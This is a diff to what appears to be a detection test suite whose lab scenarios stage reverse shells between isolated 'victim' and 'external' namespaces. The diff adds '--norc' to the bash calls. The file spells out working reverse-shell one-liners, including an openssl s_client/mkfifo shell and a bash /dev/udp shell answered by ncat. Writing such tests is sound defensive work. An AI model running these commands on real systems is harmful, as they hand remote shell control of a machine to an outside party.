@@ -124,12 +124,14 @@ export const SESSION4_SHELL_SCENARIOS: Scenario[] = [
       );
       const server = lab.run(NS.ext, [
         'bash',
+        '--norc',
         '-c',
         `(while :; do echo id; sleep 2; done) | openssl s_server -quiet -accept ${ADDR.ext}:${TLS_PORT} -key ${join(dir, 'k')} -cert ${join(dir, 'c')}`,
       ]);
       await waitForSocket(lab, NS.ext, ['-ltn'], `:${TLS_PORT}`);
       const victim = lab.run(NS.victim, [
         'bash',
+        '--norc',
         '-c',
         `cd ${dir} && mkfifo f && sh -i < f 2>&1 | openssl s_client -quiet -connect ${ADDR.ext}:${TLS_PORT} > f`,
       ]);
@@ -225,14 +227,14 @@ export const SESSION4_SHELL_SCENARIOS: Scenario[] = [
   }),
   scenario({
     id: 's4-shell-bash-udp',
-    title: `bash -i >& /dev/udp/${ADDR.ext}/${UDP_PORT} 0>&1 (a UDP shell; the attacker answers with ncat -u -l)`,
+    title: `bash --norc -i >& /dev/udp/${ADDR.ext}/${UDP_PORT} 0>&1 (a UDP shell; the attacker answers with ncat -u -l)`,
     mustName: `bash on UDP ${ADDR.ext}:${UDP_PORT}`,
     needs: ['ncat'],
     windowMs: 12_000,
     async stage(lab) {
-      const server = lab.run(NS.ext, ['bash', '-c', `(while :; do echo id; sleep 2; done) | ncat -u -l ${ADDR.ext} ${UDP_PORT}`]);
+      const server = lab.run(NS.ext, ['bash', '--norc', '-c', `(while :; do echo id; sleep 2; done) | ncat -u -l ${ADDR.ext} ${UDP_PORT}`]);
       await delay(300);
-      const victim = lab.run(NS.victim, ['bash', '-c', `bash -i >& /dev/udp/${ADDR.ext}/${UDP_PORT} 0>&1`]);
+      const victim = lab.run(NS.victim, ['bash', '--norc', '-c', `bash --norc -i >& /dev/udp/${ADDR.ext}/${UDP_PORT} 0>&1`]);
       return { names: (a) => shellTo(UDP_PORT, 'bash')(a) && a.process?.name === 'bash', stop: stopping(victim, server) };
     },
   }),
